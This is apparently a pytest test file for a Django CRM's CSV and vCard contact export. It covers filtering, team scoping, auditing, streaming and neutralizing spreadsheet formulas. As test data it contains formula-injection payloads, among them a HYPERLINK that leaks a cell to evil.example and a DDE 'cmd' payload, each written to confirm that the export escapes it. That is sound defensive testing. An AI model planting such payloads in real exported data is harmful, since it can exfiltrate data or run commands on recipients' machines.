"""Exporting the filtered contact list: CSV and vCard 4.0, streamed, scoped, neutralized, audited."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import vobject
from django.urls import reverse

from contacts.exporting import neutralize
from contacts.models import ContactMethod
from socialcrm.audit.models import AuditEvent
from tests.factories import ContactFactory, ContactMethodFactory, OrganizationFactory, TagFactory

pytestmark = pytest.mark.django_db


def _body(response: Any) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def _rows(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(_body(response).lstrip("\ufeff"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1 555", "'+1 555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Ann = Bob", "Ann = Bob"),
        ("", ""),
    ],
)
def test_formula_like_cells_are_neutralized(value: str, expected: str) -> None:
    assert neutralize(value) == expected


def test_csv_export_of_the_filtered_list(alice, team, client_for) -> None:
    northwind = OrganizationFactory(team=team, name="Northwind Traders")
    vip = TagFactory(team=team, name="vip")
    ann = ContactFactory(team=team, first_name="Ann", last_name="Able", organization=northwind, title="CTO")
    ann.tags.add(vip)
    ContactMethodFactory(contact=ann, kind="email", value="ann@northwind.example", is_primary=True)
    ContactMethodFactory(contact=ann, kind="phone", value="+44 20 7946 0001", normalized="+442079460001")
    ContactFactory(team=team, first_name="Bob", last_name="Other")
    ContactFactory(team=team, first_name="Archie", last_name="Ved", archived=True).tags.add(vip)

    response = client_for(alice).get(reverse("contacts:export_csv"), {"tag": vip.pk})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="contacts.csv"'
    rows = _rows(response)
    # The list's filters: the tag, and active contacts only (its default).
    assert [(row["name"], row["organization"], row["title"], row["tags"]) for row in rows] == [
        ("Ann Able", "Northwind Traders", "CTO", "vip")
    ]
    assert rows[0]["emails"] == "ann@northwind.example"
    assert rows[0]["phones"] == "'+44 20 7946 0001"  # a leading + is a formula to a spreadsheet


def test_formula_injection_is_neutralized_in_the_csv(alice, team, client_for) -> None:
    ContactFactory(
        team=team,
        first_name="",
        last_name="",
        display_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        title="@SUM(1+1)",
        notes="-cmd|' /C calc'!A0",
    )

    row = _rows(client_for(alice).get(reverse("contacts:export_csv")))[0]

    assert row["name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert row["title"] == "'@SUM(1+1)"
    assert row["notes"] == "'-cmd|' /C calc'!A0"


def test_vcard_export_reads_back(alice, team, client_for) -> None:
    proseware = OrganizationFactory(team=team, name="Proseware, Inc.")
    ngozi = ContactFactory(
        team=team, first_name="Ngozi", last_name="Adeyemi", organization=proseware, title="Partnerships Lead"
    )
    ngozi.notes = "Met in Lagos; likes long notes " + "x" * 100
    ngozi.save()
    ContactMethodFactory(contact=ngozi, kind="email", value="ngozi@proseware.example", label="work", is_primary=True)
    ContactMethodFactory(contact=ngozi, kind="phone", value="+234 803 555 0199", normalized="+2348035550199")

    response = client_for(alice).get(reverse("contacts:export_vcard"))

    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    body = _body(response)
    assert all(len(line.encode()) <= 75 for line in body.split("\r\n"))
    card = vobject.readOne(body)
    assert card.version.value == "4.0"
    assert card.fn.value == "Ngozi Adeyemi"
    assert card.org.value == ["Proseware, Inc."]
    assert card.email.value == "ngozi@proseware.example"
    assert card.email.params == {"TYPE": ["work"], "PREF": ["1"]}
    assert card.tel.value == "tel:+2348035550199"
    assert card.note.value == ngozi.notes


def test_export_is_scoped_to_what_the_user_sees(alice, charlie, team, other_team, client_for) -> None:
    ContactFactory(team=team, first_name="Alices", last_name="Contact")
    ContactFactory(team=other_team, first_name="Charlies", last_name="Contact")

    charlies = _rows(client_for(charlie).get(reverse("contacts:export_csv")))
    # Even naming alice's team in the filters: an invalid choice filters nothing of hers in.
    with_team = _rows(client_for(charlie).get(reverse("contacts:export_csv"), {"team": team.pk}))

    assert [row["name"] for row in charlies] == ["Charlies Contact"]
    assert "Alices Contact" not in [row["name"] for row in with_team]


def test_every_exported_contact_is_audited(alice, team, client_for) -> None:
    contacts = [ContactFactory(team=team) for _ in range(3)]

    _body(client_for(alice).get(reverse("contacts:export_vcard")))

    events = AuditEvent.objects.filter(action="contact.exported")
    assert sorted(int(event.object_id) for event in events) == sorted(contact.pk for contact in contacts)
    assert {event.actor_id for event in events} == {alice.pk}


def test_export_streams_in_chunks(alice, team, client_for, monkeypatch) -> None:
    monkeypatch.setattr("contacts.exporting.CHUNK", 2)
    for index in range(5):
        ContactFactory(team=team, first_name=f"P{index}", last_name="X", email=f"p{index}@x.example")
    response = client_for(alice).get(reverse("contacts:export_csv"))

    chunks = [chunk.decode() for chunk in response.streaming_content]

    # The header, then one piece per chunk of contacts (2 + 2 + 1).
    assert [chunk.count("\r\n") for chunk in chunks] == [1, 2, 2, 1]
    assert ContactMethod.objects.count() == 5
